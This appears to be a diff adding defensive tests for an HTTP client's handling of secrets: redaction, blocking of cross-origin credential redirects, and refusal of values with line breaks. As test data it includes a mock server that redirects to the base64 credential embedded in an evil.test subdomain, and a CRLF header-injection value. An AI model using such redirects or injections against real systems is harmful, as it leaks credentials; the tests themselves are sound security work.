@@ -125,3 +125,100 @@ describe('what goes wrong', () => {
     expect(server.requests.map(({ url }) => url)).toEqual(['/x?key=private&b=1'])
   })
 })
+
+describe('what is made of a secret', () => {
+  const basic = { auth: { type: 'basic', user: 'me', secret: 'TOKEN' } }
+
+  it.each([
+    ['the header', (authorization: string) => authorization, 'Basic ***'],
+    ['what it means', (authorization: string) => Buffer.from(authorization.slice(6), 'base64').toString(), '***'],
+  ])('[F7] as the password of a user comes back in no form: %s', async (_, echo, shown) => {
+    await using server = await echoing((authorization, response) => json(response, echo(authorization)))
+    expect((await call(server, basic)).result).toMatchObject({ ok: true, value: { value: shown } })
+  })
+
+  it('[F7] as a token that was given for it does not come back', async () => {
+    await using server = await echoing((authorization, response, { url }) => {
+      if (url === '/token') json(response, { access_token: 'Issued-Token-4711' })
+      else json(response, [authorization, authorization.toLowerCase()])
+    })
+    const auth = { type: 'oauth2', tokenUrl: `${server.origin}/token`, clientId: 'sous', secret: 'TOKEN' }
+    const shown = { ok: true, value: { value: ['Bearer ***', 'bearer ***'] } }
+    // The second time the token is known already.
+    expect([(await call(server, { auth })).result, (await call(server, { auth })).result]).toMatchObject([shown, shown])
+    expect(server.requests.filter(({ url }) => url === '/token')).toHaveLength(1)
+  })
+})
+
+describe('a secret', () => {
+  it('[F7] with which a token is asked for comes back in no form', async () => {
+    await using server = await echoing((authorization, response) => {
+      response.writeHead(307, { Location: `http://${authorization.slice('Basic '.length).replace(/=+$/, '')}.evil.test/` }).end()
+    })
+    const auth = { type: 'oauth2', tokenUrl: `${server.origin}/token`, clientId: 'sous', secret: 'TOKEN' }
+    expect((await call(server, { auth })).result).toMatchObject({
+      ok: false,
+      error: { message: expect.stringContaining("to 'http://***.evil.test'") },
+    })
+  })
+
+  it('[F4] in a body goes to no other origin, by itself or by a redirect', async () => {
+    await using other = await httpServer((_request, response) => json(response, 'other'))
+    await using server = await httpServer((_request, response) => response.writeHead(307, { Location: `${other.origin}/` }).end())
+    const bodies = [{ body: { key: '${secrets.TOKEN}' } }, { form: { key: '${secrets.TOKEN}' } }]
+    for (const body of bodies) {
+      const tool = spec({ allowedHosts: ['127.0.0.1'], calls: [{ method: 'POST', urlTemplate: `${server.origin}/x`, ...body }] })
+      expect(await run(tool, { origins: { TOKEN: other.origin } })).toMatchObject({ ok: false, error: { code: 'secret_origin_mismatch' } })
+      expect(await run(tool)).toMatchObject({ ok: false, error: { code: 'secret_origin_mismatch' } })
+      expect(await run(tool, { origins: { TOKEN: server.origin } })).toMatchObject({
+        ok: false,
+        error: { code: 'network_denied', message: expect.stringContaining('cross-origin redirect with credentials') },
+      })
+    }
+    expect([server.requests.length, other.connections]).toEqual([bodies.length, 0])
+  })
+
+  it('[F4] with which a token is asked for goes to no other origin by a redirect', async () => {
+    await using other = await httpServer((_request, response) => json(response, { access_token: 'stolen' }))
+    await using server = await httpServer((_request, response) => response.writeHead(307, { Location: `${other.origin}/` }).end())
+    const auth = { type: 'oauth2', tokenUrl: `${server.origin}/token`, clientId: 'sous', secret: 'TOKEN' }
+    const tool = spec({ allowedHosts: ['127.0.0.1'], calls: [{ urlTemplate: `${server.origin}/x`, auth }] })
+    expect(await run(tool, { origins: { TOKEN: server.origin } })).toMatchObject({
+      ok: false,
+      error: { code: 'network_denied', message: expect.stringContaining('cross-origin redirect with credentials') },
+    })
+    expect([server.requests.length, other.connections]).toEqual([1, 0])
+  })
+
+  it.each(['\n', '\r', '\r\nX-Evil: 1', '\0'])('[F9] with %j in it is sent nowhere, also not in a body', async (line) => {
+    await using server = await httpServer((_request, response) => json(response, 'ok'))
+    const setting = { origins: { TOKEN: server.origin }, values: { TOKEN: `topsecret${line}` } }
+    for (const changes of [
+      WITH_KEY,
+      { method: 'POST', body: '${secrets.TOKEN}' },
+      { auth: { type: 'basic', user: 'me', secret: 'TOKEN' } },
+    ])
+      expect(await run(get(server, changes), setting)).toEqual({
+        ok: false,
+        error: expect.objectContaining({ code: 'secret_missing', message: 'The secret TOKEN holds a line break' }),
+      })
+    expect(server.connections).toBe(0)
+  })
+
+  it.each(['geheim-é€', 'bell\u0007bell'])('[F9] that no header can carry is refused, and not thrown: %j', async (value) => {
+    await using server = await httpServer((_request, response) => json(response, 'ok'))
+    const setting = { origins: { TOKEN: server.origin }, values: { TOKEN: value } }
+    expect(await run(get(server, { auth: { type: 'bearer', secret: 'TOKEN' } }), setting)).toMatchObject({
+      ok: false,
+      error: { code: 'secret_missing', message: 'The secret TOKEN holds more than printable ASCII, which no header can carry' },
+    })
+    expect(await run(get(server, WITH_KEY), setting)).toMatchObject({ ok: false, error: { code: 'invalid_arguments' } })
+    expect(server.connections).toBe(0)
+    // What is encoded or only signed with is not in a header.
+    for (const auth of [
+      { type: 'basic', user: 'me', secret: 'TOKEN' },
+      { type: 'hmac', secret: 'TOKEN' },
+    ])
+      expect(await run(get(server, { auth }), setting)).toMatchObject({ ok: true })
+  })
+})
